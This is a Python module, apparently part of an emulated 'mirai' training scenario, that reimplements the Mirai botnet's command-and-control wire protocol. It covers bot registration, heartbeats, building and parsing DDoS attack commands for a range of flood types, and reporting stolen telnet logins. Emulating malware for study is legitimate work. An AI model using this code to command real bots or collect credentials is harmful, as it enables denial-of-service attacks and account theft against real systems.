"""mirai_proto.py - Mirai's wire formats, shared by the emulated CNC, bots
and operator of the `mirai` scenario (our own Python 3 code, written from
the published Mirai source's behaviour, not copied from it).

* Bot registration (bot -> CNC, TCP 23): the four bytes 00 00 00 01, then
  one byte with the length of the bot's id string and the id itself.
* Heartbeat: the bot sends two zero bytes, the CNC echoes them.
* Attack command (CNC -> bot): a big-endian uint16 total length (itself
  included), uint32 duration in seconds, uint8 attack vector, uint8 target
  count, per target an IPv4 address and a netmask byte, uint8 option count,
  per option a key byte, a length byte and the value (ASCII).
* Scan report (bot -> report server, TCP 48101): 00, the IPv4 address, the
  port (big endian), then length-prefixed user name and password.
"""

import ipaddress
import struct

CNC_PORT = 23
API_PORT = 101
REPORT_PORT = 48101

# Attack vectors and the option keys each accepts (Mirai's attackInfoLookup).
VECTORS = {
    "udp": (0, [2, 3, 4, 0, 1, 5, 6, 7, 25], "UDP flood"),
    "vse": (1, [2, 3, 4, 5, 6, 7], "Valve source engine specific flood"),
    "dns": (2, [2, 3, 4, 5, 6, 7, 8, 9], "DNS resolver flood using the targets domain, input IP is ignored"),
    "syn": (3, [2, 3, 4, 5, 6, 7, 11, 12, 13, 14, 15, 16, 17, 18, 25], "SYN flood"),
    "ack": (4, [0, 1, 2, 3, 4, 5, 6, 7, 11, 12, 13, 14, 15, 16, 17, 18, 25], "ACK flood"),
    "stomp": (5, [0, 1, 2, 3, 4, 5, 7, 11, 12, 13, 14, 15, 16], "TCP stomp flood"),
    "greip": (6, [0, 1, 2, 3, 4, 5, 6, 7, 19, 25], "GRE IP flood"),
    "greeth": (7, [0, 1, 2, 3, 4, 5, 6, 7, 19, 25], "GRE Ethernet flood"),
    "udpplain": (9, [0, 1, 7], "UDP flood with less options. optimized for higher PPS"),
    "http": (10, [8, 7, 20, 21, 22, 24], "HTTP flood"),
}
VECTOR_NAMES = {v[0]: k for k, v in VECTORS.items()}

# Option names and keys (Mirai's flagInfoLookup).
OPTIONS = {
    "len": 0, "rand": 1, "tos": 2, "ident": 3, "ttl": 4, "df": 5, "sport": 6,
    "dport": 7, "domain": 8, "dhid": 9, "urg": 11, "ack": 12, "psh": 13,
    "rst": 14, "syn": 15, "fin": 16, "seqnum": 17, "acknum": 18, "gcip": 19,
    "method": 20, "postdata": 21, "path": 22, "conns": 24, "source": 25,
}
OPTION_NAMES = {v: k for k, v in OPTIONS.items()}

REGISTER_MAGIC = b"\x00\x00\x00\x01"
HEARTBEAT = b"\x00\x00"


class AttackError(ValueError):
    """An operator's attack line the CNC refuses (its message is shown)."""


def parse_attack_line(line, admin=True):
    """An operator's attack line (`udp 10.0.0.5 10 dport=80 len=512`) as
    (duration, vector, [(ip, netmask)], [(key, value)]); raises AttackError
    with the CNC's message, as Mirai's NewAttack does."""
    args = line.split()
    if not args:
        raise AttackError("Must specify an attack name")
    if args[0] not in VECTORS:
        raise AttackError("%s is not a valid attack!" % args[0])
    vector, allowed, _ = VECTORS[args[0]]
    args = args[1:]
    if not args:
        raise AttackError("Must specify prefix/netmask as targets")
    targets = []
    for cidr in args[0].split(","):
        parts = cidr.split("/")
        if len(parts) > 2:
            raise AttackError("Too many /'s in prefix, near %s" % cidr)
        netmask = 32
        if len(parts) == 2:
            try:
                netmask = int(parts[1])
            except ValueError:
                raise AttackError("Invalid netmask was supplied, near %s" % cidr)
        try:
            ip = ipaddress.IPv4Address(parts[0])
        except ValueError:
            raise AttackError("Failed to parse IP address, near %s" % cidr)
        targets.append((str(ip), netmask))
    if len(targets) > 255:
        raise AttackError("Cannot specify more than 255 targets in a single attack!")
    args = args[1:]
    if not args:
        raise AttackError("Must specify an attack duration")
    try:
        duration = int(args[0])
    except ValueError:
        duration = 0
    if duration <= 0 or duration > 3600:
        raise AttackError(
            "Invalid attack duration, near %s. Duration must be between 0 and 3600 seconds" % args[0]
        )
    options = []
    for flag in args[1:]:
        if "=" not in flag:
            raise AttackError("Invalid key=value flag combination near %s" % flag)
        name, value = flag.split("=", 1)
        key = OPTIONS.get(name)
        if key is None or key not in allowed or (not admin and key == 25):
            raise AttackError("Invalid flag key %s, near %s" % (name, flag))
        if value == "true":
            value = "1"
        elif value == "false":
            value = "0"
        options.append((key, value))
    return duration, vector, targets, options


def build_attack(duration, vector, targets, options):
    """The binary attack command the CNC queues to its bots."""
    body = struct.pack(">IBB", duration, vector, len(targets))
    for ip, netmask in targets:
        body += ipaddress.IPv4Address(ip).packed + bytes([netmask])
    body += bytes([len(options)])
    for key, value in options:
        raw = value.encode()
        if len(raw) > 255:
            raise AttackError("Flag value cannot be more than 255 bytes!")
        body += bytes([key, len(raw)]) + raw
    if len(body) > 4096:
        raise AttackError("Max buffer is 4096")
    return struct.pack(">H", len(body) + 2) + body


def parse_attack(body):
    """The bot's side: a command without its length prefix, as
    (duration, vector, [(ip, netmask)], {key: value})."""
    duration, vector, ntargets = struct.unpack_from(">IBB", body, 0)
    pos = 6
    targets = []
    for _ in range(ntargets):
        ip = str(ipaddress.IPv4Address(body[pos : pos + 4]))
        targets.append((ip, body[pos + 4]))
        pos += 5
    nopts = body[pos]
    pos += 1
    options = {}
    for _ in range(nopts):
        key, length = body[pos], body[pos + 1]
        options[key] = body[pos + 2 : pos + 2 + length].decode()
        pos += 2 + length
    if pos != len(body):
        raise ValueError("%d trailing bytes in the attack command" % (len(body) - pos))
    return duration, vector, targets, options


def build_report(ip, port, user, password):
    """A scanner's report of a working telnet login."""
    u, p = user.encode(), password.encode()
    return (
        b"\x00" + ipaddress.IPv4Address(ip).packed + struct.pack(">H", port)
        + bytes([len(u)]) + u + bytes([len(p)]) + p
    )


def checksum(data):
    """The Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
